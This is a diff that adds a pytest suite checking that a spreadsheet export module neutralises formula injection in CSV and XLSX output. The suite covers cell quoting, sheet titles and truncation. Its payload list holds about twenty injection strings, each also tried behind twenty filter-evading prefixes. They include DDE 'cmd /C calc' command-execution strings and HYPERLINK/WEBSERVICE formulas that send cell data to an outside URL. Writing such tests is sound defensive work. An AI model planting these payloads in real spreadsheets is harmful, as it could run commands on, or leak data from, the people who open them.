@@ -1,0 +1,97 @@
+"""No cell that a spreadsheet opens becomes a formula, a link or a number by itself (security.md T13)."""
+
+from __future__ import annotations
+
+import csv
+import io
+import zipfile
+from datetime import UTC, date, datetime
+
+import openpyxl
+import pytest
+
+from core.tables import TRIGGERS, safe_cell, to_csv, to_xlsx
+
+FORMULAS = (
+    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://example.org?x="&A1,"click")', "=IMPORTXML(A1,\"//a\")",
+    '=WEBSERVICE("http://example.org")', "=DDE(\"cmd\";\"/C calc\";\"x\")", "=1+1+cmd|' /C calc'!A0", "+1+1",
+    "+cmd|' /C calc'!A0", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "@A1", "|calc", "%0A=1",
+    "＝1+1", "＋1", "－1", "＠SUM(A1)", "−1+1", "﹦1+1",
+)  # fmt: skip
+BEFORE = ("", " ", "\t", "\r", "\n", "\r\n", "\ufeff", "\u200b", "\u00a0", "\u3000", "\u2003", "\u2060", "\u200e",
+          "\x01 ", " \x01", "\x00", "\u202e", " \ufeff\t", "\x0b", "\x1f\u200b ")  # fmt: skip
+PAYLOADS = tuple(before + formula for before in BEFORE for formula in FORMULAS)
+PHONE = "+44 161 496 0000"
+
+
+def csv_cells(made: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(made.decode("utf-8-sig"), newline="")))
+
+
+def test_there_are_enough_payloads() -> None:
+    assert len(PAYLOADS) >= 60
+
+
+def test_no_csv_cell_starts_a_formula() -> None:
+    rows = csv_cells(to_csv(PAYLOADS[:5], [[payload, "beside"] for payload in PAYLOADS]))
+    assert len(rows) == len(PAYLOADS) + 1
+    for cell in [*rows[0], *(row[0] for row in rows[1:])]:
+        assert cell.startswith("'")
+        assert not cell.lstrip("\ufeff\u200b \u00a0\x00\x01").startswith(TRIGGERS)
+
+
+@pytest.mark.parametrize("separator", [",", ";", "\t", '"'])
+def test_a_cell_cannot_break_out_of_its_quotes(separator: str) -> None:
+    sly = f'x"{separator}"=1+1'
+    assert csv_cells(to_csv(["a", "b"], [[sly, "last"]]))[1] == [sly, "last"]
+
+
+@pytest.mark.parametrize("plain", ["Robyn", "a = b", "x-y", "e@mail", "5%", "", "’tis", "0161 496 0000", "1.5"])
+def test_plain_words_stay_as_they_are(plain: str) -> None:
+    assert safe_cell(plain) == plain
+
+
+def test_a_phone_number_comes_back() -> None:
+    assert csv_cells(to_csv(["phone"], [[PHONE]]))[1][0].removeprefix("'") == PHONE
+    assert sheet(to_xlsx("Phones", ["phone"], [[PHONE]]))["A2"].value == PHONE
+
+
+def sheet(made: bytes) -> openpyxl.worksheet.worksheet.Worksheet:
+    found = openpyxl.load_workbook(io.BytesIO(made)).active
+    assert isinstance(found, openpyxl.worksheet.worksheet.Worksheet)
+    return found
+
+
+def test_no_xlsx_cell_is_a_formula_or_a_link() -> None:
+    made = to_xlsx("Payloads", PAYLOADS[:5], [[payload] for payload in PAYLOADS])
+    with zipfile.ZipFile(io.BytesIO(made)) as parts:
+        assert "xl/externalLinks" not in " ".join(parts.namelist())
+        written = parts.read("xl/worksheets/sheet1.xml")
+    assert b"<f>" not in written
+    assert b"<f " not in written
+    assert b"<hyperlink" not in written
+    assert written.count(b't="s"') == len(PAYLOADS) + 5
+
+
+def test_xlsx_gives_back_what_went_in() -> None:
+    made = sheet(to_xlsx("Plan", ["A", "B", "C", "D", "E"], [["=1+1", 7, date(2026, 11, 26), None, 1.5]]))
+    assert [cell.value for cell in made[2]] == ["=1+1", 7, datetime(2026, 11, 26), None, 1.5]
+    assert made["A2"].data_type == "s"
+    assert made["C2"].number_format == "d mmm yyyy"
+
+
+def test_a_moment_is_written_as_the_clock_in_manchester_shows_it() -> None:
+    made = sheet(to_xlsx("Times", ["At"], [[datetime(2026, 7, 1, 11, 30, tzinfo=UTC)]]))
+    assert str(made["A2"].value) == "2026-07-01 12:30:00"
+
+
+@pytest.mark.parametrize("title", ["Plan: 2020/22 [all]?*", "'quoted'", "", "x" * 40, "a\x01b"])
+def test_any_title_names_a_sheet(title: str) -> None:
+    assert 0 < len(sheet(to_xlsx(title, ["A"], [["x"]])).title) <= 31
+
+
+def test_a_very_long_text_is_cut_and_says_so() -> None:
+    value = sheet(to_xlsx("Long", ["A"], [["x" * 40_000]]))["A2"].value
+    assert isinstance(value, str)
+    assert len(value) == 32_767
+    assert value.endswith("…")
